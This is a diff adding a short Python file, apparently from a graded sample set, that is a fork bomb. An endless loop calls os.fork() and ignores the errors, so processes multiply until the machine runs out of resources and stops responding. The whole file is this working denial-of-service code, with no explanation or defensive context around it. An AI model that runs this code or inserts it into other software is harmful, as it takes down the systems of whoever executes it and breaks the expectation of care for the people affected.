@@ -1,0 +1,9 @@
+"""Forks without end."""
+# state: partly graded
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
